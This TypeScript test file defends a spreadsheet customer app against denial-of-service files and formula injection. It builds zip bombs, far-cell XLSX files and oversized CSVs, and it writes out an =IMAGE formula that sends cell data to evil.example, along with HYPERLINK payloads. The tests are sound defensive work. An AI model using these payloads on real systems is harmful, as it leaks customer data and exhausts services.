/**
 * Items 9 and 10: hostile data. Long cells, a tiny XLSX naming a far cell, zip bombs and oversized CSV
 * must be refused (or handled) within bounded time and memory; a formula arriving by batch edit, import
 * or restore must be stored as text, and a CSV export must keep `;` and `=` inert in every locale.
 */
import Papa from "papaparse";
import type { LoadedBundle } from "../../load-bundle";
import { CUSTOM_HEADER, OWNER, SALES_A } from "../fixture";
import { control, firstFound, type Attack } from "./attack";
import { QUERY, asUser, attempt, begin, columnOf, customerCell, trustBook } from "./book";
import { workbookParts, xlsxWithRows, zeroBomb, zipOf } from "./zip";

const EVIL = '=IMAGE("https://evil.example/x?"&E2)';
const HEADER = '<row r="1"><c r="A1" t="inlineStr"><is><t>CustomerID</t></is></c></row>';
/** A hostile file must be answered within this (wall clock, a shared 2-core machine: generous). */
const BOUND_MS = 5_000;
/** …and grow the process's peak memory by less than this. */
const BOUND_RSS_BYTES = 300 * 1024 * 1024;

const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString("base64");

/** Every formula of the Customers tab, as "row:column =…". */
function formulas(loaded: LoadedBundle): string[] {
  const sheet = loaded.emulator.spreadsheet.getSheetByName("Customers")!;
  const grid = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getFormulas();
  return grid.flatMap((r, i) => r.flatMap((f, j) => (f ? [`${i + 1}:${j + 1} ${f}`] : [])));
}

/** The formula attacks' verdict: any live formula on the Customers tab is a success (`how` it got there). */
function liveFormulas(loaded: LoadedBundle, how: string): string | null {
  const live = formulas(loaded);
  return live.length ? `${how} as formulas: ${live.join("; ")}` : null;
}

/**
 * Runs `act`, which must throw (a refusal), and judges it: accepted, slow, or a peak-memory jump is the
 * attack's success. maxRSS is the process's peak so far, so it only rises when this run set a new peak.
 */
function refusedInBounds(what: string, act: () => unknown): string | null {
  const rss = process.resourceUsage().maxRSS * 1024;
  const started = performance.now();
  let refused: Error | null = null;
  try {
    act();
  } catch (e) {
    refused = e as Error;
  }
  const ms = performance.now() - started;
  const grew = process.resourceUsage().maxRSS * 1024 - rss;
  if (!refused) return `${what} was accepted`;
  if (ms > BOUND_MS) return `${what} took ${Math.round(ms)} ms to refuse`;
  if (grew > BOUND_RSS_BYTES) return `${what} raised peak memory by ${Math.round(grew / 1048576)} MB`;
  return null;
}

/** The first of several hostile files (what it is, its bytes, its name) that an import did not refuse in bounds. */
function firstImported(loaded: LoadedBundle, files: readonly (readonly [string, Uint8Array, string])[]) {
  return firstFound(files, ([what, bytes, name]) =>
    refusedInBounds(what, () => loaded.run("parseImportFile", b64(bytes), name)),
  );
}

export const INPUT_ATTACKS: readonly Attack[] = [
  {
    name: "dos-long-phone-cells",
    item: 9,
    tries: "three 50,000-character phone cells (spaces between digits), then Validate all",
    run(env) {
      const clean = begin(env, trustBook(env), OWNER);
      let started = performance.now();
      control(attempt(clean, "validateAll").ok, "Validate all runs");
      const baseline = performance.now() - started;
      const loaded = begin(env, trustBook(env), OWNER);
      const sheet = loaded.emulator.spreadsheet.getSheetByName("Customers")!;
      const phone = columnOf(loaded, "Customers", "Phone");
      for (const row of [2, 3, 4]) sheet.getRange(row, phone).setValue(`138${" ".repeat(49_996)}1`);
      started = performance.now();
      const got = attempt(loaded, "validateAll");
      const extra = performance.now() - started - baseline;
      if (!got.ok) return `Validate all failed: ${got.error.message}`;
      const listed = (got.value as { problems: { a1: string }[] }).problems.map((p) => p.a1);
      const cells = [2, 3, 4].map((row) => customerCell(loaded, "Phone", row).replace(/^Customers!/, ""));
      control(
        cells.every((a1) => listed.includes(a1)),
        "each long phone cell is listed as a problem",
      );
      return extra > BOUND_MS ? `three long cells cost ${Math.round(extra)} ms more` : null;
    },
  },
  {
    name: "dos-xlsx-huge-dimension",
    item: 9,
    tries: "a sub-kilobyte XLSX whose one cell is XFD1048576, imported",
    run: asUser(OWNER, (loaded) => {
      const bytes = xlsxWithRows(`${HEADER}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`);
      return firstImported(loaded, [["the far-cell XLSX", bytes, "far.xlsx"]]);
    }),
  },
  {
    name: "dos-zip-bomb",
    item: 9,
    tries: "a 410 KB XLSX inflating to 400 MB, honest about it and lying about it, imported",
    run: asUser(OWNER, (loaded) => {
      const bomb = zeroBomb(400);
      const part = (size: number) => ({
        name: "xl/worksheets/sheet1.xml",
        data: bomb,
        method: 8 as const,
        size,
      });
      return firstImported(loaded, [
        ["the declared bomb", zipOf([...workbookParts(), part(400 << 20)]), "bomb.xlsx"],
        ["the lying bomb", zipOf([...workbookParts(), part(4_000)]), "liar.xlsx"],
      ]);
    }),
  },
  {
    name: "dos-oversized-csv",
    item: 9,
    tries: "an 11 MB CSV and a CSV with a 60,000-character cell, imported",
    run: asUser(OWNER, (loaded) =>
      firstImported(loaded, [
        ["the 10 MB+ CSV", Buffer.alloc(10 * 1024 * 1024 + 10, "a"), "huge.csv"],
        [
          "the 60,000-character cell",
          Buffer.from(`CustomerID,Name\nC9001,${"n".repeat(60_000)}\n`),
          "long.csv",
        ],
      ]),
    ),
  },
  {
    name: "formula-by-batch-edit",
    item: 10,
    tries: 'sales rep A adds the tag =IMAGE("https://…"&E2) to customers by batch edit',
    run: asUser(SALES_A, (loaded) => {
      const got = attempt(loaded, "batchUpdateCustomers", ["C0001", "C0003"], { addTags: [EVIL] });
      control(got.ok, "the batch edit ran");
      return liveFormulas(loaded, "stored");
    }),
  },
  {
    name: "formula-by-import",
    item: 10,
    tries: "formulas in an imported CSV, an XLSX (as text and as <f>) and a direct stage call",
    run: asUser(OWNER, (loaded) => {
      const csv = `CustomerID,Name,Notes\nC9101,"${EVIL.replace(/"/g, '""')}",@SUM(1)\n`;
      const xlsx = xlsxWithRows(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>CustomerID</t></is></c><c r="B1" t="inlineStr"><is><t>Name</t></is></c></row>' +
          '<row r="2"><c r="A2" t="inlineStr"><is><t>C9102</t></is></c><c r="B2" t="inlineStr"><is><t>=HYPERLINK("http://evil.example")</t></is></c></row>' +
          '<row r="3"><c r="A3" t="inlineStr"><is><t>C9103</t></is></c><c r="B3"><f>IMAGE("http://evil.example")</f><v>0</v></c></row>',
      );
      let committed = 0;
      for (const [bytes, name] of [
        [Buffer.from(csv), "evil.csv"],
        [xlsx, "evil.xlsx"],
      ] as const) {
        const file = loaded.run("parseImportFile", b64(bytes), name);
        const request = { sheet: "Customers", headers: file.headers, dedupe: "add" };
        const job = loaded.run("importStage", null, request, file.rows, file.lines);
        committed += loaded.run("importCommit", job, request).added ?? 0;
      }
      const request = { sheet: "Customers", headers: ["CustomerID", "Name", CUSTOM_HEADER], dedupe: "add" };
      const job = loaded.run("importStage", null, request, [["C9104", "Array Ltd", [EVIL]]], [2]);
      committed += loaded.run("importCommit", job, request).added ?? 0;
      control(committed >= 3, "the imported rows were added");
      return liveFormulas(loaded, "stored");
    }),
  },
  {
    name: "formula-by-restore",
    item: 10,
    tries: "a Notes cell holding '=IMAGE(…) as text, backed up, changed, then restored",
    run: asUser(OWNER, (loaded) => {
      const sheet = loaded.emulator.spreadsheet.getSheetByName("Customers")!;
      const notes = columnOf(loaded, "Customers", "Notes");
      sheet.getRange(3, notes).setValue(`'${EVIL}`);
      control(formulas(loaded).length === 0, "the note is text");
      loaded.ctx.menuBackupNow();
      const [set] = loaded.ctx.listBackups() as { id: string }[];
      loaded.emulator.clock.advance(60_000);
      sheet.getRange(3, notes).setValue("changed");
      control(attempt(loaded, "restoreBackup", set.id).ok, "the restore ran");
      control(sheet.getRange(3, notes).getValue() === EVIL, "the note is back");
      return liveFormulas(loaded, "restored");
    }),
  },
  {
    name: "csv-export-semicolon-formula",
    item: 10,
    tries: "a Name of Acme;=HYPERLINK(…), exported as CSV and opened in comma and semicolon locales",
    run: asUser(OWNER, (loaded) => {
      const name = 'Acme;=HYPERLINK("http://evil.example";"x")';
      const sheet = loaded.emulator.spreadsheet.getSheetByName("Customers")!;
      sheet.getRange(2, columnOf(loaded, "Customers", "Name")).setValue(name);
      const file = loaded.run("exportCustomers", QUERY, "csv", "en") as { base64: string };
      const text = Buffer.from(file.base64, "base64")
        .toString("utf8")
        .replace(/^\uFEFF/, "");
      const parse = (delimiter: string) =>
        Papa.parse<string[]>(text, { delimiter, newline: "\r\n", skipEmptyLines: true }).data;
      const byComma = parse(",");
      const at = byComma[0]?.indexOf("Name") ?? -1;
      control(at >= 0, "the export has a Name column");
      // One field in the comma locale (its text may be neutralised, e.g. a quote before the "=").
      const field = byComma.find((r) => r[0] === "C0001")?.[at] ?? "";
      if (!field.startsWith("Acme;") || !field.includes("HYPERLINK")) return `the name was split: ${field}`;
      for (const [locale, rows] of [
        ["comma", byComma],
        ["semicolon", parse(";")],
      ] as const)
        for (const row of rows)
          for (const field of row)
            if (/^[=+\-@\t\r]/.test(field))
              return `a ${locale}-locale field starts a formula: ${field.slice(0, 40)}`;
      return null;
    }),
  },
];
